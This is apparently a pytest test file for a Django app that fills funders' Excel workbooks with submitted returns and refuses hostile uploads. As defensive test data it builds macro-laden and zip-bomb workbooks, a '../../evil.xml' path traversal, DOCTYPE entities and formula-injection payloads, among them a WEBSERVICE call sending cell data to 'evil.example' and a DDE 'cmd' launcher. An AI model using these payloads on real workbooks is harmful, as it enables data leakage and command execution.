"""The funder's own workbook: attacked when it is uploaded, and filled cell by cell with everything else as it was."""

import io
import re
import zipfile
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from python_calamine import CalamineWorkbook
from xlsxwriter import Workbook

from hotspot.core.errors import ChangedMeanwhile, DomainError
from reports.models import ReturnWorkbook
from reports.returns import template_operations
from reports.returns.sheet_xml import scanned, with_answers
from reports.returns.template_operations import AskedFor, asked_of
from reports.returns.workbooks import FunderWorkbook, address_of, check_workbook, faults
from tests.returns import HOURS, SPENT, ask, asked, begun, filled, sent

AT = datetime(2024, 11, 20, 12, tzinfo=UTC)
SHEET, BOOK, TYPES = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml"
LINKS, STYLES = "xl/_rels/workbook.xml.rels", "xl/styles.xml"
WHEN = AskedFor("When", "entered:date", cell="Return!B3")

pytestmark = pytest.mark.slow


def made_book(**more: str) -> bytes:
    """A form of a funder: labels, cells to fill, a total, merged cells, a cell for a date, and a second sheet."""
    file = io.BytesIO()
    with Workbook(file, {"in_memory": True}) as book:
        sheet, notes = book.add_worksheet("Return"), book.add_worksheet("Bob's notes")
        looks = book.add_format({"bold": True, "bg_color": "#ffeeaa", "num_format": "#,##0.00"})
        sheet.write_column("A1", ["Hours", "Spent", "When"])
        sheet.write_blank("B1", None, looks)
        sheet.write_number("B2", 1, looks)
        sheet.write_blank("B3", None, book.add_format({"num_format": "dd/mm/yyyy"}))
        sheet.write_formula("B4", more.get("formula", "=B1+B2"), looks, 1)
        sheet.write_array_formula("F1:F3", "{=B1:B3*2}", looks, 0)
        sheet.merge_range("C6:D7", "", looks)
        sheet.write_url("A9", more.get("link", "https://example.org/"))
        sheet.data_validation("B1", {"validate": "decimal", "criteria": ">=", "value": 0})
        notes.write("A1", "As of")
    return file.getvalue()


def with_parts(content: bytes, parts: Mapping[str, bytes]) -> bytes:
    """The workbook with these parts added or in place of its own."""
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, parts.get(name, old.read(name)))
        for name in parts.keys() - set(old.namelist()):
            new.writestr(name, parts[name])
    return file.getvalue()


def part(content: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(content)).read(name)


# --- filling ------------------------------------------------------------------------------------------------------


def test_cells_are_filled_and_everything_else_stays():
    old = made_book()
    answers = {
        "Return!B1": 1234, "Return!B2": Decimal("1200.50"), "Return!$B$3": date(2024, 10, 3),
        "'Bob''s notes'!C5": "=1+1 <&>", "Return!C6": "Yes", "Return!A98": 5, "Return!G1": date(2024, 10, 3),
    }  # fmt: skip
    named = {address_of(cell): answer for cell, answer in answers.items()}
    new = FunderWorkbook(old).filled(named)
    assert new == FunderWorkbook(old).filled(named)
    book = CalamineWorkbook.from_filelike(io.BytesIO(new))
    rows = book.get_sheet_by_name("Return").to_python()
    assert [row[1] for row in rows[:3]] == [1234, 1200.5, date(2024, 10, 3)]
    assert (rows[0][6], rows[5][2], rows[97][0]) == ("3 October 2024", "Yes", 5)
    assert book.get_sheet_by_name("Bob's notes").to_python()[4][2] == "=1+1 <&>"
    changed = {name for name in zipfile.ZipFile(io.BytesIO(old)).namelist() if part(old, name) != part(new, name)}
    assert changed == {SHEET, "xl/worksheets/sheet2.xml", BOOK}
    around = [re.sub(rb".*</sheetData>", b"", part(each, SHEET), flags=re.DOTALL) for each in (old, new)]
    assert around[0] == around[1]
    xml = part(new, SHEET).decode()
    assert '<c r="B1" s="1"><v>1234</v></c>' in xml
    assert '<c r="B4" s="1"><f>B1+B2</f></c>' in xml, "What the total was is taken out, so that it is worked out anew"
    assert 'fullCalcOnLoad="1"' in part(new, BOOK).decode()


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("<sheetData/>", '<sheetData><row r="2"><c r="B2"><v>7</v></c></row><row r="3"><c r="A3"/></row></sheetData>'),
        (
            '<sheetData><row r="1"/><row r="2"/><row r="9"/></sheetData>',
            '<sheetData><row r="1"/><row r="2"><c r="B2"><v>7</v></c></row><row r="3"><c r="A3"/></row><row r="9"/>'
            "</sheetData>",
        ),
        (
            '<sheetData><row r="2"><c r="A2"/><c r="C2" s="4"/></row></sheetData>',
            '<sheetData><row r="2"><c r="A2"/><c r="B2"><v>7</v></c><c r="C2" s="4"/></row><row r="3"><c r="A3"/></row>'
            "</sheetData>",
        ),
    ],
)
def test_cells_and_rows_that_have_no_xml_yet_get_some_in_their_order(before, after):
    for start, end in (("<worksheet>", "</worksheet>"), ("<!-- > --><worksheet a='>'>", "<x/></worksheet>")):
        sheet = scanned(f"{start}{before}{end}".encode())
        assert with_answers(sheet, {(3, 1): None, (2, 2): 7}, {}).decode() == f"{start}{after}{end}"


def test_new_cells_look_like_their_row_or_else_like_their_column():
    sheet = scanned(
        b'<worksheet><cols><col min="1" max="2" style="3"/></cols><sheetData><row r="1" s="5" customFormat="1"/>'
        b'<row r="2" s="6"><c r="A2"/></row></sheetData></worksheet>'
    )
    new = with_answers(sheet, {(1, 1): 7, (2, 1): 7, (2, 2): date(2024, 10, 3), (9, 3): 7}, {"3": date(1899, 12, 30)})
    for cell in ('<c r="A1" s="5">', '<c r="A2">', '<c r="B2" s="3"><v>45568</v>', '<c r="C9">'):
        assert cell.encode() in new


@pytest.mark.parametrize("names", ["", "<definedNames><definedName name='x'>A1</definedName></definedNames>"])
def test_the_workbook_asks_to_be_worked_out_behind_its_sheets_and_names(names):
    """Excel refuses a file in which it asks among the sheets. Not every writer has the element."""
    old = made_book()
    book = re.sub(rb"<calcPr[^>]*/>", names.encode(), part(old, BOOK))
    assert b"/></sheets>" in book
    xml = part(FunderWorkbook(with_parts(old, {BOOK: book})).filled({}), BOOK)
    assert f'/></sheets>{names}<calcPr fullCalcOnLoad="1"/>'.encode() in xml


def test_names_of_sheets_are_compared_without_spaces_that_nobody_sees():
    old = made_book()
    book = with_parts(old, {BOOK: part(old, BOOK).replace(b'"Return"', '"Return\u00a0  now "'.encode())})
    assert faults(book, ["'Return now'!B1"]) == {}


def test_prefixed_elements_keep_their_prefix():
    data = b'<x:worksheet xmlns:x="u"><x:sheetData><x:row r="1"><x:c r="A1" s="2"/></x:row></x:sheetData></x:worksheet>'
    new = with_answers(scanned(data), {(1, 1): 5}, {})
    assert b'<x:row r="1"><x:c r="A1" s="2"><x:v>5</x:v></x:c></x:row>' in new


@pytest.mark.parametrize(
    ("cell", "words"),
    [
        ("Return!B4", "B4 has a formula"),
        ("Return!F2", "F2 is filled by a formula of another cell"),
        ("Return!D7", "D7 is part of the merged cells C6:D7. Name C6."),
        ("Return!A1", "A1 has words in it"),
        ("Nope!A1", "has no sheet “Nope”. It has: Return, Bob's notes."),
        ("Return!XFE1", "Name the sheet and the cell"),
        ("Return!A1048577", "Name the sheet and the cell"),
        ("B1", "Name the sheet and the cell"),
        ("Return!B1:B2", "Name the sheet and the cell"),
    ],
)
def test_cells_that_cannot_be_filled_are_refused(cell, words):
    assert words in faults(made_book(), [cell])[cell]


def test_one_cell_is_filled_by_one_row_however_it_is_written():
    assert faults(made_book(), ["Return!B1", "Return!$b$1"]) == {"Return!$b$1": "Another row fills this cell already."}


# --- attacks ------------------------------------------------------------------------------------------------------


def attacked(what: str) -> bytes:
    book = made_book()
    many = bytes(range(256)) * (16_000 if what == "many bytes" else 0)
    # No two are the same, so that they are not refused because they pack so well.
    xfs = b"".join(b'<xf numFmtId="%d"/>' % (n * 7919) for n in range(250_000)) if what == "very many styles" else b""
    types, sheet, rels = part(book, TYPES), part(book, SHEET), "xl/worksheets/_rels/sheet1.xml.rels"
    parts: dict[str, Mapping[str, bytes]] = {
        "macros": {"xl/vbaProject.bin": b"x"},
        "macro type": {TYPES: types.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")},
        "template type": {TYPES: types.replace(b"sheet.main+xml", b"template.main+xml")},
        "external workbook": {"xl/externalLinks/externalLink1.xml": b"<x/>"},
        "external picture": {rels: part(book, rels).replace(b"/hyperlink", b"/image")},
        "link to a file": {rels: part(book, rels).replace(b"https://example.org/", b"file://server/share")},
        "doctype": {SHEET: sheet.replace(b"<worksheet", b"<!DOCTYPE x [<!ENTITY e 'e'>]><worksheet", 1)},
        "late doctype": {SHEET: b" " * 70_000 + b"<!DOCTYPE x>" + sheet},
        "bomb": {"xl/media/image1.bin": b"0" * (30_000_000 if what == "bomb" else 0)},
        "many bytes": {f"xl/media/{n}.bin": many for n in range(6)},
        "active": {"xl/activeX/activeX1.xml": b"<x/>"},
        "signature": {"_xmlsignatures/sig1.xml": b"<x/>"},
        "broken sheet": {SHEET: sheet[:-20]},
        "unnumbered cells": {SHEET: sheet.replace(b' r="B2"', b"")},
        "odd style": {SHEET: sheet.replace(b'r="B2" s="1"', b'r="B2" s="1&quot;"')},
        "UTF-16": {SHEET: sheet.decode().replace("UTF-8", "UTF-16").encode("utf-16")},
        "no sheet": {"xl/_rels/workbook.xml.rels": b"<Relationships/>", SHEET: b""},
        "two of one name": {"XL/WORKBOOK.XML": b"<x/>"},
        "way out": {"../../evil.xml": b"<x/>"},
        "name that reaches out": {BOOK: part(book, BOOK).replace(
            b"</sheets>", b'</sheets><definedNames><definedName name="x">WEBSERVICE("https://x")</definedName></definedNames>'
        )},
        "check that reaches out": {SHEET: sheet.replace(b"<formula1>0<", b"<formula1>WEBSERVICE(B1)<")},
        "other main part": {"_rels/.rels": part(book, "_rels/.rels").replace(b"xl/workbook.xml", b"xl/other.xml")},
        "capitals": {"xl/worksheets/_rels/sheet2.xml.RELS": part(book, rels).replace(b"/hyperlink", b"/image")},
        "macro sheet": {LINKS: part(book, LINKS).replace(b"/worksheet\"", b"/xlMacrosheet\"", 1)},
        "very many styles": {STYLES: part(book, STYLES).replace(b"</cellXfs>", xfs + b"</cellXfs>")},
        "a cell twice": {SHEET: sheet.replace(b"</row>", b'<c r="B1"/></row>', 1)},
        "a row twice": {SHEET: sheet.replace(b"</sheetData>", b'<row r="1"/></sheetData>')},
        "a name twice": {BOOK: part(book, BOOK).replace(b"Bob's notes", b"return")},
        "a part twice": {LINKS: part(book, LINKS).replace(b"sheet2.xml", b"sheet1.xml")},
        "unmarked UTF-16": {SHEET: sheet.decode().partition("?>")[2].strip().encode("utf-16-le")},
        "very many cells": {SHEET: sheet.replace(b"<sheetData>", b"<sheetData>" + b'<row r="999"/>' * 250_000)},
    }  # fmt: skip
    return with_parts(book, parts[what])


@pytest.mark.parametrize(
    "what",
    [
        "macros", "macro type", "template type", "external workbook", "external picture", "link to a file", "doctype",
        "late doctype", "bomb", "many bytes", "active", "signature", "broken sheet", "unnumbered cells", "odd style",
        "other main part", "capitals", "macro sheet", "very many styles", "a cell twice", "a row twice", "a name twice",
        "a part twice", "unmarked UTF-16", "UTF-16", "two of one name",
        "way out", "name that reaches out", "check that reaches out", "very many cells",
    ],
)  # fmt: skip
def test_workbooks_that_could_do_harm_are_refused(what):
    check_workbook("form.xlsx", made_book())
    with pytest.raises(DomainError):
        check_workbook("form.xlsx", attacked(what))


@pytest.mark.parametrize("name", [STYLES, SHEET, "docProps/app.xml"])
def test_damaged_parts_are_refused(name):
    """Every part is unpacked, not those alone that are read here: a download would fail."""
    packed = bytearray(with_parts(made_book(), {}))
    entry = zipfile.ZipFile(io.BytesIO(packed)).getinfo(name)
    first = entry.header_offset + 30 + len(name)
    packed[first + entry.compress_size // 2] ^= 0xFF
    with pytest.raises(DomainError, match=r"cannot be read|is damaged"):
        check_workbook("form.xlsx", bytes(packed))


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("https://evil.example/"&B1)', '=_xlfn.IMAGE("https://x")', "=cmd|' /C calc'!A0", '=RTD("x",,"y")'],
)
def test_formulas_that_reach_out_are_refused(formula):
    with pytest.raises(DomainError, match="fetches or runs something"):
        check_workbook("form.xlsx", made_book(formula=formula))


@pytest.mark.parametrize("name", ["form.xlsm", "form.xls", "form.xlsx"])
def test_other_files_are_refused(name):
    contents = {"form.xlsm": made_book(), "form.xls": b"\xd0\xcf", "form.xlsx": b"PK" * 3_000_000}
    with pytest.raises(DomainError):
        check_workbook(name, contents[name])


# --- a template with a workbook -----------------------------------------------------------------------------------


def kept(force, template, content: bytes = b"", name: str = "form.xlsx"):
    return template_operations.keep_workbook(
        by=force.adam, at=AT, template_id=template.pk, name=name, content=content or made_book(),
        seen=template.versions.first().pk,
    )  # fmt: skip


def test_a_submitted_return_is_downloaded_in_the_funders_workbook(force, now, as_user):
    now.move_to(AT)
    template = asked(force, AT)
    kept(force, template)
    hours = replace(HOURS, cell="Return!B1")
    knives = AskedFor("Knives", "weapons:group=knives", cell="Return!G1")
    ask(force, AT, template, hours, replace(SPENT, cell="Return!B2"), WHEN, knives)
    codes = dict(template.versions.get().rows.values_list("label", "code"))
    entered = {codes["Spent"].replace("-", "_"): 120_050, codes["When"].replace("-", "_"): "2024-10-03"}
    made = begun(force, AT, template)
    path = f"/returns/made/{made.pk}/workbook/"
    anna, paul = as_user(force.anna), as_user(force.paul)
    assert anna.get(path).status_code == 404
    made = sent(force, AT, filled(force, made, **entered))
    first, second = anna.get(path), anna.get(path)
    assert first.content == second.content
    assert f"{made.slug}-workbook.xlsx" in first["Content-Disposition"]
    assert "In the funder’s own workbook" in anna.get(f"/returns/made/{made.pk}/").content.decode()
    rows = CalamineWorkbook.from_filelike(io.BytesIO(first.content)).get_sheet_by_name("Return").to_python()
    assert [row[1] for row in rows[:3]] == [0, 1200.5, date(2024, 10, 3)]
    office = CalamineWorkbook.from_filelike(io.BytesIO(paul.get(path).content)).get_sheet_by_name("Return").to_python()
    assert (rows[0][6], office[0][6], office[1][1]) == (0, "[c]", 1200.5)


def test_cells_are_checked_against_the_workbook_both_ways(force, now):
    now.move_to(AT)
    template = asked(force, AT)
    with pytest.raises(DomainError, match="Upload the funder’s workbook first"):
        ask(force, AT, template, replace(HOURS, cell="Return!B1"))
    kept(force, template)
    with pytest.raises(DomainError, match="Hours of patrol: B4 has a formula"):
        ask(force, AT, template, replace(HOURS, cell="Return!B4"))
    with pytest.raises(DomainError, match="Headings and notes fill no cell"):
        ask(force, AT, template, HOURS, AskedFor("A", "heading", cell="Return!B1"))
    ask(force, AT, template, replace(HOURS, cell="'Bob''s notes'!B1"))
    other = made_book()
    renamed = with_parts(other, {BOOK: part(other, BOOK).replace(b"Bob's notes", b"Other")})
    with pytest.raises(DomainError, match="has no sheet “Bob's notes”"):
        kept(force, template, renamed)
    assert ReturnWorkbook.objects.count() == 1


def test_a_new_workbook_is_a_new_version_and_returns_keep_theirs(force, now, as_user):
    now.move_to(AT)
    template = asked(force, AT)
    first = kept(force, template).workbook
    seen = template.versions.get().pk
    ask(force, AT, template, replace(HOURS, cell="Return!B1"))
    made = sent(force, AT, begun(force, AT, template))
    kept(force, template, name="next.xlsx")
    assert [version.number for version in template.versions.all()] == [2, 1]
    made.refresh_from_db()
    assert (made.asks.workbook, template.versions.first().workbook.name) == (first, "next.xlsx")
    assert asked_of(template.versions.first())[0].cell == "Return!B1"
    assert as_user(force.anna).get(f"/returns/made/{made.pk}/workbook/").status_code == 200
    kept(force, template, name="last.xlsx")
    assert sorted(ReturnWorkbook.objects.values_list("name", flat=True)) == ["form.xlsx", "last.xlsx"]
    copy = template_operations.copy_template(
        by=force.adam, at=AT, template_id=template.pk, programme=force.programme, name="Copy"
    )
    assert (copy.versions.get().workbook, asked_of(copy.versions.get())[0].cell) == (None, "")
    with pytest.raises(ChangedMeanwhile):
        template_operations.keep_workbook(
            by=force.adam, at=AT, template_id=template.pk, name="x.xlsx", content=made_book(), seen=seen
        )


def test_the_page_takes_a_workbook_and_says_what_is_wrong(force, now, as_user):
    now.move_to(AT)
    template, adam = asked(force, AT), as_user(force.adam)
    path = f"/returns/{template.pk}/workbook/"
    seen = template.versions.get().pk
    assert "Upload it" in adam.get(path).content.decode()
    answer = adam.post(path, {"seen": seen, "file": SimpleUploadedFile("form.xlsm", made_book())})
    assert answer.status_code == 422
    assert "without macros" in answer.content.decode()
    good = {"seen": seen, "file": SimpleUploadedFile("form.xlsx", made_book())}
    assert adam.post(path, good).status_code == 302
    late = {"seen": seen, "file": SimpleUploadedFile("other.xlsx", made_book())}
    assert adam.post(path, late).status_code == 422, "Somebody else uploaded one meanwhile"
    with CaptureQueriesContext(connection) as queries:
        assert "form.xlsx" in adam.get(path).content.decode()
    assert not [query for query in queries if '"content"' in query["sql"]]
    template_operations.remove_template(by=force.adam, template_id=template.pk)
    assert not ReturnWorkbook.objects.exists()
